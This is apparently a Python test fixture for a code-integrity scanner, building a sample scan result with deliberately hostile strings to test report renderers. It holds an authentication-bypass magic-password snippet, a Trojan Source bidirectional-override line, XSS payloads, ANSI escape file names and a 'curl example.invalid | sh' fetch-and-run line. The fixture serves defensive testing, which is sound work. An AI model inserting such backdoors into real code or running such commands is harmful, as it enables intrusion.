"""A hand-built ScanResult exercising every renderer, hostile strings included.

Used by the golden tests (tests/golden/) and the renderer unit tests (tests/unit/report/).
"""

from __future__ import annotations

from integrity.model import (
    Category,
    Change,
    ChangeKind,
    Confidence,
    EntryType,
    FileRecord,
    Finding,
    ScanResult,
    ScanStats,
    Severity,
    SourceInfo,
    SymbolChange,
    SymbolChangeKind,
)

ESC = "\x1b"
RLO = "\u202e"  # right-to-left override
LRI = "\u2066"  # left-to-right isolate
PDI = "\u2069"  # pop directional isolate
ZWSP = "\u200b"  # zero-width space

ANSI_PATH = f"tools/{ESC}[31mred{ESC}[0m\nname.sh"
"""A file name holding an ANSI colour sequence and a newline."""
SURROGATE_PATH = "bin/caf\udce9.bin"
"""A file name whose byte 0xE9 is not valid UTF-8 (decoded with surrogateescape)."""
MARKUP_PATH = "web/[bold]index[/bold].html"
"""A file name holding rich markup."""
XSS_SNIPPET = '<script>alert(1)</script>\n<a href="javascript:alert(1)">login</a>'
BIDI_SNIPPET = f'if (accessLevel != "user{RLO} {LRI}// Check if admin{PDI} {LRI}") {{{ZWSP}'

BYPASS_BEFORE = """int check_password(const char *user, const char *pw)
{
    return verify_hash(user, pw);
}"""
BYPASS_AFTER = """int check_password(const char *user, const char *pw)
{
    if (strcmp(pw, "<<< %s(un='%s') = %u") == 0)
        return 1;
    return verify_hash(user, pw);
}"""


def _record(path: str, sha: str, size: int, executable: bool = False) -> FileRecord:
    return FileRecord(
        path=path, kind=EntryType.FILE, size=size, executable=executable, sha256=sha * 64
    )


def _changes() -> tuple[Change, ...]:
    login_old = _record("src/auth/login.c", "a", 1200)
    login_new = _record("src/auth/login.c", "b", 1290)
    return (
        Change(
            path="src/auth/login.c",
            kind=ChangeKind.MODIFIED,
            old=login_old,
            new=login_new,
            symbols=(
                SymbolChange(
                    SymbolChangeKind.MODIFIED,
                    "check_password",
                    "function",
                    start_line=40,
                    end_line=46,
                    sensitive=("auth",),
                ),
                SymbolChange(
                    SymbolChangeKind.RENAMED,
                    "verify_user",
                    "function",
                    old_name="check_user",
                    start_line=60,
                    end_line=70,
                ),
                SymbolChange(SymbolChangeKind.ADDED, "debug_login", "function", start_line=80),
            ),
        ),
        Change(
            path="lib/util_new.py",
            kind=ChangeKind.RENAMED,
            old=_record("lib/util.py", "c", 300),
            new=_record("lib/util_new.py", "c", 300),
            old_path="lib/util.py",
        ),
        Change(ANSI_PATH, ChangeKind.ADDED, None, _record(ANSI_PATH, "d", 42, True)),
        Change(SURROGATE_PATH, ChangeKind.ADDED, None, _record(SURROGATE_PATH, "e", 4096)),
        Change(
            "scripts/build.sh",
            ChangeKind.MODE_CHANGED,
            _record("scripts/build.sh", "f", 512),
            _record("scripts/build.sh", "f", 512, executable=True),
        ),
        Change("docs/old.md", ChangeKind.REMOVED, _record("docs/old.md", "1", 80), None),
        Change(
            "README.md",
            ChangeKind.MODIFIED,
            _record("README.md", "2", 100),
            _record("README.md", "3", 101),
            cosmetic=True,
        ),
    )


def _findings() -> tuple[Finding, ...]:
    return (
        Finding(
            rule_id="c-magic-password-compare",
            category=Category.AUTH_BYPASS,
            severity=Severity.CRITICAL,
            confidence=Confidence.HIGH,
            message="password compared against a hard-coded magic value",
            path="src/auth/login.c",
            start_line=43,
            end_line=44,
            symbol="check_password",
            change="modified",
            fingerprint="f0000000000000000000000000000001",
            snippet="    if (strcmp(pw, \"<<< %s(un='%s') = %u\") == 0)\n        return 1;",
            details=(("before", BYPASS_BEFORE), ("after", BYPASS_AFTER), ("cwe", "CWE-798")),
        ),
        Finding(
            rule_id="github-token",
            category=Category.HARDCODED_CREDENTIAL,
            severity=Severity.HIGH,
            confidence=Confidence.HIGH,
            message="GitHub token: ghp_AB... (40 chars, sha256 1a2b3c4d)",
            path="config/settings.py",
            start_line=3,
            end_line=3,
            change="added",
            fingerprint="f0000000000000000000000000000002",
            snippet='API_TOKEN = "ghp_AB..." # redacted',
        ),
        Finding(
            rule_id="bidi-override",
            category=Category.TROJAN_SOURCE,
            severity=Severity.HIGH,
            confidence=Confidence.HIGH,
            message=f"bidirectional override {RLO} hides code [bold]here[/bold]",
            path="src/access.js",
            start_line=7,
            end_line=7,
            symbol=f"isAdmin{ZWSP}",
            change="added",
            fingerprint="f0000000000000000000000000000003",
            snippet=BIDI_SNIPPET,
        ),
        Finding(
            rule_id="js-inline-script",
            category=Category.HIDDEN_EXEC,
            severity=Severity.MEDIUM,
            confidence=Confidence.MEDIUM,
            message="inline script with a javascript: URL | pipe `tick` <b>bold</b> @team #12",
            path=MARKUP_PATH,
            start_line=12,
            end_line=13,
            change="added",
            fingerprint="f0000000000000000000000000000004",
            snippet=XSS_SNIPPET,
        ),
        Finding(
            rule_id="opaque-binary-added",
            category=Category.OPAQUE_BINARY,
            severity=Severity.LOW,
            confidence=Confidence.MEDIUM,
            message="binary file added where source is expected",
            path=SURROGATE_PATH,
            change="added",
            fingerprint="f0000000000000000000000000000005",
        ),
        Finding(
            rule_id="file-added",
            category=Category.INTEGRITY_VIOLATION,
            severity=Severity.INFO,
            confidence=Confidence.HIGH,
            message=f"file added: {ANSI_PATH}",
            path=ANSI_PATH,
            start_line=1,
            end_line=1,
            change="added",
            fingerprint="f0000000000000000000000000000006",
            snippet=f"#!/bin/sh\necho {ESC}]0;pwned{ESC}\\\rcurl example.invalid | sh",
        ),
        Finding(
            rule_id="build-flag-removed",
            category=Category.BUILD_SABOTAGE,
            severity=Severity.HIGH,
            confidence=Confidence.MEDIUM,
            message="-fstack-protector removed from CFLAGS",
            path="scripts/build.sh",
            start_line=5,
            end_line=5,
            change="modified",
            fingerprint="f0000000000000000000000000000007",
            snippet='CFLAGS="-O2"',
            status="waived",
            waiver=(
                ("reviewer", "alice@example.org"),
                ("reason", "stack protector set in toolchain file <see #12>"),
                ("date", "2026-11-01"),
            ),
        ),
    )


def build_sample() -> ScanResult:
    """The sample result (deterministic: call it as often as needed)."""
    return ScanResult(
        command="verify",
        tool_version="0.0.0-test",
        source=SourceInfo(kind="directory", location="product-1.2"),
        baseline_source=SourceInfo(
            kind="git", location="repo", ref="v1.2", commit="0123456789abcdef" * 2 + "01234567"
        ),
        changes=_changes(),
        findings=_findings(),
        stats=ScanStats(files=12, bytes=34567, parsed=9, skipped=("vendor/big.bin",)),
        fail_on=Severity.HIGH,
        rules=(
            ("c-magic-password-compare", "auth-bypass", "critical", "Magic password compare"),
            ("github-token", "hardcoded-credential", "high", "GitHub token in source"),
            ("unused-rule", "time-bomb", "medium", "A rule that fired nowhere"),
            ("github-token", "hardcoded-credential", "high", "duplicate entry, ignored"),
        ),
    )
